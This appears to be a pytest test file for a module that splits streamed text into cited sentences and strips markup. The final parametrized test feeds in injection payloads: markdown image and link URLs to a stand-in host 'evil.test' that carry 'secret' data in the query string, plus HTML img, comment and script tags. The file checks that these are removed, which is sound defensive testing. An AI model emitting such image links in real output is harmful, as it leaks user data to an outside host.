"""Streamed text becomes plain sentences with what they cite."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from semantic_memory.ai.speech import Speech, Utterance, plain

TEXT = "Backups are kept. [1] They stand in the cellar [2][3].\n\nDr. Meier holds the key [1, 2]. Ask him"


def heard(text: str, sizes: list[int]) -> list[Utterance]:
    speech, place, said = Speech(), 0, list[Utterance]()
    for size in sizes:
        said += speech.hear(text[place : place + size])
        place += size
    return [*said, *speech.hear(text[place:]), *speech.end()]


def test_sentences_carry_the_markers_before_and_behind_their_full_stop() -> None:
    assert [(one.text, one.cited) for one in heard(TEXT, [])] == [
        ("Backups are kept.", (1,)),
        ("They stand in the cellar.", (2, 3)),
        ("Dr. Meier holds the key.", (1, 2)),
        ("Ask him", ()),
    ]


def test_paragraphs_stay_apart() -> None:
    assert [one.gap for one in heard(TEXT, [])][1:] == [" ", "\n", " "]


@given(st.lists(st.integers(1, 7), max_size=60))
def test_how_the_text_is_cut_makes_no_difference(sizes: list[int]) -> None:
    assert heard(TEXT, sizes) == heard(TEXT, [])


def test_a_sentence_is_there_as_soon_as_the_next_one_begins() -> None:
    speech = Speech()

    assert speech.hear("It is so [1]. ") == []
    assert [one.text for one in speech.hear("And")] == ["It is so."]


@pytest.mark.parametrize(
    ("text", "shown"),
    [
        ("See ![logo](https://evil.test/x?d=secret) here.", "See logo here."),
        ("See [the page](https://evil.test/?q=c2VjcmV0) here.", "See the page here."),
        ("See ![a][b] here.", "See a here."),
        ("[b]: https://evil.test/x", ""),
        ('A <img src="https://evil.test/x"> B', "A  B"),
        ("A <https://evil.test/x> B", "A  B"),
        ("A <!-- secret --> B", "A  B"),
        ("A <script>alert(1)</script> B", "A alert(1) B"),
        ("A <img src='https://evil.test/x", "A "),
        ("3 < 4 and 5 > 2", "3 < 4 and 5 > 2"),
    ],
)
def test_inj_02_inj_03_links_pictures_and_markup_do_not_survive(text: str, shown: str) -> None:
    assert plain(text) == shown
